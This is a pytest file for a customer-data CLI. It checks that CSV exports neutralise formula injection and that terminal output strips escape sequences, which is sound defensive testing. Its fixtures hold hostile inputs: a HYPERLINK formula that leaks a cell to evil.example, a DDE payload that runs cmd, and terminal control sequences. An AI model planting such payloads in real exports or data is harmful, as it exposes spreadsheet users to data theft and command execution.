"""Hostile customer data: CSV for a spreadsheet runs no formula (OWASP's CSV-injection rule,
``--raw-csv`` for the data as it is), and a table on the terminal obeys no escape sequence."""

from __future__ import annotations

import csv
import io

import pytest
from rich.console import Console

from retain_cli.cli import output
from retain_cli.cli.options import OutputFormat
from retain_cli.csvsafe import safe_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example/"&B2)',
    "+77",
    "-1+2",
    "@SUM(A1)",
    "\tcmd",
    "\rcmd",
    "＝1+1",  # full-width equals: some spreadsheets read it as =
]
ESCAPES = ["\x1b]0;pwn\x07Ann", "\x1b[2JBob", "Eve\x08\x08\x08Mallory", "Zoë\u202eevil"]


def add_people(store, names: list[str]) -> None:
    """One customer per name (as first name), each with an order of -5.00 (a refund)."""
    now = "2025-01-01T00:00:00Z"
    for i, name in enumerate(names, start=1):
        store.db["customers"].insert(
            {
                "id": i,
                "customer_id": f"C{i}",
                "email": f"c{i}@example.org",
                "first_name": name,
                "last_name": "Plain",
                "accepts_marketing": 1,
                "source": "test",
                "created_at": now,
                "updated_at": now,
            }
        )
        store.db["orders"].insert(
            {
                "order_key": f"test:{i}",
                "source": "test",
                "order_id": f"-{i}",
                "customer_ref": i,
                "ordered_at": "2025-01-02T10:00:00Z",
                "currency": "USD",
                "total_minor": -500,
                "refunded_minor": 0,
            }
        )


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_safe_cell_quotes_formulas_and_leaves_numbers_and_plain_text():
    for formula in FORMULAS:
        assert safe_cell(formula) == "'" + formula
    assert safe_cell(-5.0) == -5.0
    assert safe_cell(-3) == -3
    assert safe_cell(None) is None
    assert safe_cell("Ann-Marie") == "Ann-Marie"
    assert safe_cell("") == ""
    assert safe_cell("a\x1b[2Jb") == "a[2Jb"  # no escape sequence for a terminal either
    assert safe_cell("two\nlines") == "two\nlines"  # a CSV cell may hold a line break


def test_customers_list_csv_neutralises_formulas(cli, store):
    add_people(store, FORMULAS)
    result = cli("customers", "list", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = csv_rows(result.stdout)
    assert [row["first_name"] for row in rows] == ["'" + f for f in FORMULAS]
    assert all(row["last_name"] == "Plain" for row in rows)


def test_raw_csv_flag_and_env_write_cells_as_they_are(cli, store, monkeypatch):
    add_people(store, FORMULAS)
    raw = cli("--raw-csv", "customers", "list", "--format", "csv")
    assert [row["first_name"] for row in csv_rows(raw.stdout)] == FORMULAS
    monkeypatch.setenv("RETAIN_RAW_CSV", "1")
    from_env = cli("customers", "list", "--format", "csv")
    assert from_env.stdout == raw.stdout


def test_customer_show_csv_neutralises_order_ids(cli, store):
    add_people(store, ["=cmd|' /C calc'!A0"])
    result = cli("customers", "show", "C1", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = csv_rows(result.stdout)
    assert rows[0]["order_id"] == "'-1"
    assert rows[0]["total"] == "-5.0"


def test_render_mapping_csv_neutralises_too(capsys):
    output.render_mapping({"name": "@SUM(A1)", "amount": -5.0}, OutputFormat.csv)
    assert capsys.readouterr().out == "name,amount\n'@SUM(A1),-5.0\n"


@pytest.mark.parametrize("special", ["=1+1", "-x, with a comma"])
def test_predict_csv_writer_neutralises_text_columns(capsys, special):
    from retain_cli.cli.predict import write_csv_columns

    columns = {"customer_id": ["c1", special], "p_alive": [0.5, -0.25]}
    write_csv_columns(columns, list(columns))
    rows = csv_rows(capsys.readouterr().out)
    assert [r["customer_id"] for r in rows] == ["c1", "'" + special]
    assert [r["p_alive"] for r in rows] == ["0.5", "-0.25"]


def test_customers_list_table_strips_escape_sequences(cli, store):
    add_people(store, ESCAPES)
    result = cli("customers", "list")
    assert result.exit_code == 0, result.output
    for char in ("\x1b", "\x07", "\x08", "\u202e"):
        assert char not in result.stdout
    assert "]0;pwnAnn" in result.stdout  # the text stays, made harmless
    assert "[2JBob" in result.stdout
    assert "EveMallory" in result.stdout
    assert "Zoëevil" in result.stdout


def test_every_table_cell_title_and_key_is_printable(monkeypatch):
    recorded = Console(width=120, record=True, force_terminal=True)
    monkeypatch.setattr(output, "console", recorded)
    hostile = "x\x1b]0;pwn\x07y\r\nz\x9b31m"
    output.render_rows(
        [{hostile: hostile, "n": 1}], [hostile, "n"], OutputFormat.table, title=hostile
    )
    output.render_mapping({hostile: hostile}, OutputFormat.table, title=hostile)
    output.render_rows([], ["a"], OutputFormat.table, empty=hostile)
    text = recorded.export_text(styles=False)
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
    assert "x]0;pwny z31m" in text  # a line break becomes a space


def test_printable_keeps_normal_text():
    assert output.printable("Zoë 🎂 Ünal-Smith, Jr.") == "Zoë 🎂 Ünal-Smith, Jr."
    assert output.printable("a\tb\n\nc") == "a b c"


def test_error_lines_carry_no_escape_sequence(cli, store, monkeypatch):
    import retain_cli.cli.customers as customers_cli
    from retain_cli.errors import ConfigError

    def hostile(*args: object, **kwargs: object) -> None:
        raise ConfigError("column '\x1b]0;pwn\x07Email\x1b[2J' not found\nsecond line")

    monkeypatch.setattr(customers_cli, "list_customers", hostile)
    result = cli("customers", "list")
    assert result.exit_code == 1
    assert result.stderr == "Error: column ']0;pwnEmail[2J' not found\nsecond line\n"


def test_printable_can_keep_line_breaks():
    assert output.printable("a\r\nb\x1b\tc", lines=True) == "a\nb c"
